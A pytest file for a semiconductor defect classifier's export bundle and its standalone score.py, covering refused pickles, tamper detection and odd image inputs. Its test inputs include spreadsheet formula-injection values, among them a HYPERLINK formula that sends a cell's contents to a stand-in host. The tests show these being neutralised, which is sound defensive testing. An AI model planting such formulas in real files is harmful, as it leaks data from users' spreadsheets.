"A run to a bundle: what is refused, what a killed export left, and the bundle's own `score.py` without torch"
import io, json, pickle, shutil, subprocess, sys
from pathlib import Path
import numpy as np, pandas as pd, pytest
from PIL import Image
from safetensors.numpy import load, save
from hostile import turned
from test_bundle import fit, reseal
from semiconductor_cls.line import export
from semiconductor_cls.line.bundle import open_bundle
from semiconductor_cls.base.errors import UserError
from semiconductor_cls.base.files import read_json
from semiconductor_cls.base.table import read_csv, write_csv
from semiconductor_cls.base.run import Run, open_run
from semiconductor_cls.line.export import export_run
from semiconductor_cls.base.image import load_image

for o in ('onnx','onnxscript','onnxruntime','openvino'): pytest.importorskip(o)

PICKLES = [('a.pkl',b''), ('other.pt',b''), ('figures/w.pth',b''), ('x.joblib',b''), ('table.png',b'PK\x03\x04'),
           ('innocent.csv',pickle.dumps({'a':[1]}, 4)), ('innocent.json',pickle.dumps((1,2), 2))]

@pytest.mark.parametrize('place', ['a/export','elsewhere'])
def test_a_run_that_is_decided_anew_meanwhile_is_not_exported(runs, monkeypatch, place):
    run,finish = Run(runs/'a'),export._finish_bundle
    def meanwhile(*args):
        made = run.decide(.2, .3, 'cost')
        run.write('metrics.json', {**run.read('metrics.json'), 'decision_id':made.id, 'threshold':.3})
        finish(*args)
    monkeypatch.setattr(export, '_finish_bundle', meanwhile)
    with pytest.raises(UserError, match='was decided anew while'): export_run(run, out=runs/place)
    assert not (runs/place).exists()
    monkeypatch.undo()
    assert export_run(run, out=runs/place)['threshold']==.3

@pytest.mark.parametrize('name,data', PICKLES, ids=str)
def test_a_run_with_a_pickle_is_refused(runs, name, data):
    run = runs/'a'
    (run/name).parent.mkdir(exist_ok=True)
    (run/name).write_bytes(data)
    with pytest.raises(UserError, match=f'{Path(name).name}: a pickle'): export_run(run)
    assert not (run/'export').exists()
    assert not list(run.glob('.*'))

def test_command(runs, semicls):
    out = runs/'a/export'
    p = semicls('export', 'runs/a')
    assert p.returncode==0 and 'runs/a/export: onnxruntime, float32' in p.out, p.err
    m = read_json(out/'manifest.json')
    assert m['seal'] in p.out
    there = {o.name for o in out.iterdir()}
    known = 'model.onnx MODEL_CARD.md score.py manifest.json unlike.py unlike.safetensors'.split()
    assert {*m['files'], 'manifest.json'}==there=={*known}
    again = semicls('export', 'runs/a')
    assert again.returncode==1 and again.err.count('\n')==1
    assert 'runs/a/export: this bundle exists; use --overwrite' in again.err

def test_overwrite_and_what_a_killed_export_left(bundles, runs, tmp_path):
    run = runs/'a'
    shutil.copytree(bundles/'both', run/'export')
    (run/'.export.new').mkdir()
    (run/'.export.new/half').write_text('x')
    with pytest.raises(UserError, match='this bundle exists; use --overwrite'): export_run(run, 'openvino')
    export_run(run, 'openvino', overwrite=True)
    assert (run/'export/model.xml').exists() and not (run/'export/model.onnx').exists()
    assert not list(run.glob('.export*'))
    Run(run).update(status='interrupted')
    out = tmp_path/'o'
    with pytest.raises(UserError, match='this run is interrupted; finish it first'): export_run(run, out=out)
    assert not out.exists()

def test_refusals(runs):
    run = runs/'a'
    refused = [(dict(fmt='tflite'), 'one of onnx, openvino'), (dict(int8=True), '--int8 is for --format openvino'),
               (dict(out=run), 'is not a bundle'), (dict(out=run/'run.json'), 'is not a bundle')]
    for kw,words in refused:
        with pytest.raises(UserError, match=words): export_run(run, **kw)
    df = read_csv(run/'table.csv')
    df.loc[3,'path'] = 'moved/away.bmp'
    write_csv(df, run/'table.csv')
    with pytest.raises(UserError, match='table.csv: differs from what was written'): export_run(run)
    open_run(run).finish() # the new table is the run's own
    with pytest.raises(UserError, match='1 not found of 100 pictures, such as .*moved/away.bmp'): export_run(run)
    (run/'model.safetensors').unlink()
    with pytest.raises(UserError, match='model.safetensors: no such file'): export_run(run)
    assert not (run/'export').exists()

# ---- score.py

BLOCK = """import sys, runpy
away = {'torch','torchvision','fastai','fastcore','timm','pandas','sklearn','scipy','cv2','semiconductor_cls'}
class Block:
    def find_spec(self, name, path=None, target=None):
        if name.split('.')[0] in away: raise ImportError(f'{name} is not on the station')
sys.meta_path.insert(0, Block())
sys.argv = sys.argv[1:]
runpy.run_path(sys.argv[0], run_name='__main__')
"""

def score_py(bundle, *names, cwd=None):
    "Run the `score.py` of a bundle where nothing is installed but what it needs"
    cmd = [sys.executable, '-I', '-c', BLOCK, str(bundle/'score.py'), *names]
    return subprocess.run(cmd, cwd=cwd, capture_output=True, text=True)

def odd_pictures(folder):
    "Every kind of picture that a camera or a person makes, and two that are none"
    folder.mkdir()
    ramp = np.tile(np.arange(50, dtype=np.uint16)*5, (40,1))
    ramp[10:20] //= 2
    gray = Image.fromarray(ramp.astype(np.uint8))
    three = Image.merge('RGB', (gray, gray, gray))
    holes = np.where(ramp>240, np.nan, ramp)
    pictures = {f'gray.{ext}':gray for ext in ('png','jpg','bmp','tif')}
    pictures |= {'=1+1.png':gray, 'rgb.png':Image.merge('RGB', (gray, gray.rotate(180), gray)),
                 'lab.tif':Image.frombytes('LAB', gray.size, three.tobytes()), 'deep.png':Image.fromarray(ramp*256),
                 'int.tif':Image.fromarray(ramp.astype(np.int32)*200),
                 'small_int.tif':Image.fromarray(ramp.astype(np.int32)),
                 'float.tif':Image.fromarray(ramp.astype(np.float32)/3),
                 'nan.tif':Image.fromarray(holes.astype(np.float32))}
    for name,mode in {'palette.png':'P', 'la.png':'LA', 'rgba.png':'RGBA', 'bit.png':'1'}.items():
        pictures[name] = gray.convert(mode)
    for name,im in pictures.items(): im.save(folder/name)
    gray.save(folder/'turned.jpg', exif=turned())
    (folder/'broken.png').write_bytes(b'\x89PNG')
    (folder/'text.bmp').write_text('x')
    return sorted(folder.iterdir())

@pytest.mark.parametrize('which', ['a','both'])
def test_score_py_without_torch(bundles, tmp_path, which):
    files = odd_pictures(tmp_path/'odd')
    p = score_py(bundles/which, *[o.name for o in files], cwd=tmp_path/'odd')
    assert p.returncode==3, p.stderr # two of them have no score
    got,b = pd.read_csv(io.StringIO(p.stdout)),open_bundle(bundles/which)
    assert got.path.str.lstrip("'").tolist()==[o.name for o in files]
    assert "'=1+1.png" in set(got.path)
    assert len(files)==19
    for f,score,note in zip(files, got.p_defect, got.note):
        if f.name in ('broken.png','text.bmp'):
            assert np.isnan(score) and note
            continue
        want = b.score({side:load_image(f, side, b.channels)[None] for side in b.sizes})[0]
        assert abs(score-want)<1e-4, f.name

def test_score_py_takes_only_what_the_library_takes(bundle, tmp_path):
    "No machine that scores otherwise, no model or picture whose name a spreadsheet runs; a video may follow a picture"
    Image.new('L', (40,40), 90).save(tmp_path/'phone.jpg')
    (tmp_path/'phone.jpg').write_bytes((tmp_path/'phone.jpg').read_bytes()+b'\xff\xda'*200)
    (tmp_path/"'=b.jpg").write_bytes((tmp_path/'phone.jpg').read_bytes())
    reseal(bundle, lambda m: m.update(name='=HYPERLINK("http://x/?"&A1)'))
    p = score_py(bundle, 'phone.jpg', "'=b.jpg", cwd=tmp_path)
    got = pd.read_csv(io.StringIO(p.stdout))
    assert p.returncode==0 and got.path.tolist()==['phone.jpg',"''=b.jpg"], p.stderr
    assert got.model.str.startswith("'=HYPERLINK").all()
    reseal(bundle, lambda m: m.update(selftest=[.99,.01,.99,.01]))
    p = score_py(bundle, 'phone.jpg', cwd=tmp_path)
    assert p.returncode==1 and not p.stdout and 'scores otherwise on this machine' in p.stderr

HOSTILE = [(dict(limit=np.float32([np.nan])), 'limit is not'), (dict(side=np.int32([33])), 'pictures of 33 px'),
           ({'gray.mean':None}, 'gray.mean')]

@pytest.mark.parametrize('change,why', HOSTILE)
def test_what_a_product_looks_like_is_checked_when_a_bundle_is_opened(bundle, change, why):
    file = bundle/'unlike.safetensors'
    arrays = {k:v for k,v in (load(file.read_bytes())|change).items() if v is not None}
    file.write_bytes(save(arrays))
    fit(bundle)
    with pytest.raises(UserError, match=why): open_bundle(bundle)
    p = score_py(bundle, 'x.png')
    assert p.returncode==1 and 'is no whole bundle' in p.stderr

def test_score_py_names_a_file_that_differs(bundle):
    weights = bytearray((bundle/'model.bin').read_bytes())
    weights[len(weights)//2] ^= 1
    (bundle/'model.bin').write_bytes(weights)
    p = score_py(bundle, 'x.png')
    assert p.returncode!=0
    assert p.stderr.strip()=='model.bin: differs from what was exported'

def test_score_py_names_a_manifest_that_differs(bundle):
    m = json.loads((bundle/'manifest.json').read_text())
    (bundle/'manifest.json').write_text(json.dumps(m | dict(cuts=[1.,1.])))
    p = score_py(bundle, 'x.png')
    assert p.returncode!=0
    assert p.stderr.strip()=='manifest.json: differs from what was exported'

@pytest.mark.slow
def test_score_py_in_a_fresh_environment(trained, bundles, tmp_path):
    "Nothing but numpy, pillow and onnxruntime; needs a package index"
    py = tmp_path/'venv/bin/python'
    subprocess.run([sys.executable, '-m', 'venv', tmp_path/'venv'], check=True)
    subprocess.run([py, '-m', 'pip', 'install', '-q', 'numpy', 'pillow', 'onnxruntime'], check=True)
    test = read_csv(trained/'runs/both/preds_test.csv')
    cmd = [py, '-I', bundles/'both/score.py', *test.path]
    p = subprocess.run(cmd, capture_output=True, text=True, check=True)
    got = pd.read_csv(io.StringIO(p.stdout)).p_defect
    assert np.abs(got-test.p_defect).max()<1e-4
    assert subprocess.run([py, '-c', 'import torch'], capture_output=True).returncode!=0
